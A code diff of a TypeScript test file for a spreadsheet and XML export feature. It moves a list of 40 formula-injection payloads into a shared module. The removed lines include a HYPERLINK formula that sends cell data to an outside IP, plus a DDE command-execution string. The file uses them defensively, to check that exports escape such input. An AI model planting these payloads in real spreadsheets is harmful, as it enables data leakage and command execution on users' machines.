@@ -6,6 +6,7 @@ import { readXlsx } from 'hucre/xlsx';
 import { readXml } from 'hucre/xml';
 import { CompiledQuery } from 'kysely';
 import { afterAll, describe, expect, test } from 'vitest';
+import { formulaPayloads, formulaStart } from '../../testing/formula-payloads.ts';
 import { exportBytes } from './export-bytes.ts';
 import type { ExportColumn, ExportFormat, ExportRow } from './export-table.ts';
 import { ExportCancelled, produceExport } from './produce-export.ts';
@@ -14,17 +15,6 @@ import { elementName } from './xml-writer.ts';
 
 const house = await testDatabase();
 afterAll(house.drop);
-
-const starts = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '＝', '＋', '－', '＠', ' ='];
-const bodies = ['1+1', 'HYPERLINK("http://198.51.100.1/?x="&A1,"open")', "cmd|' /C calc'!A0"];
-/** 40 texts that spreadsheets may take for formulas or that break a carrier format (trust.md, T18). */
-const payloads = [
-  ...starts.flatMap((start) => bodies.map((body) => start + body)),
-  "@SUM(1+9)*cmd|' /C calc'!A0",
-  '"=1+1"',
-  '=1+1;"a",b',
-  ']]><x:formula>=1</x:formula><!--_x003D_1+1-->',
-];
 
 const columns: ExportColumn[] = [
   { header: 'UAN', kind: 'text' },
@@ -49,9 +39,9 @@ async function joined(pieces: AsyncIterable<Buffer>): Promise<Buffer> {
 const textColumns: ExportColumn[] = ['First', 'Second'].map((header) => ({ header, kind: 'text' }));
 
 describe('REP-03 text cells never become formulas, in 40 payloads', () => {
-  const rows = payloads.map((payload) => [payload, payload]);
+  const rows = formulaPayloads.map((payload) => [payload, payload]);
 
-  test('there are 40', () => expect(new Set(payloads).size).toBe(40));
+  test('there are 40', () => expect(new Set(formulaPayloads).size).toBe(40));
 
   test('xlsx: read back by another library, every cell is a string and equal', async () => {
     const { sheets } = await readXlsx(await bytesOf('xlsx', rows, textColumns), { readStyles: true });
@@ -67,8 +57,8 @@ describe('REP-03 text cells never become formulas, in 40 payloads', () => {
     for (const [index, row] of read.entries())
       for (const cell of row) {
         const shown = String(cell);
-        expect(shown).not.toMatch(/^\s*[=+\-@＝＋－＠]|^[\t\r\n]/u);
-        expect(shown.replace(/^'/u, '')).toBe(payloads[index]);
+        expect(shown).not.toMatch(formulaStart);
+        expect(shown.replace(/^'/u, '')).toBe(formulaPayloads[index]);
       }
   });
 
@@ -76,7 +66,7 @@ describe('REP-03 text cells never become formulas, in 40 payloads', () => {
     const text = (await bytesOf('xml', rows, textColumns)).toString('utf8');
     const { data } = readXml(text, { rowTag: 'Row' });
     // The library itself trims what it reads.
-    expect(data.map(({ Second }) => Second)).toEqual(payloads.map((payload) => payload.trim()));
+    expect(data.map(({ Second }) => Second)).toEqual(formulaPayloads.map((payload) => payload.trim()));
   });
 });
 
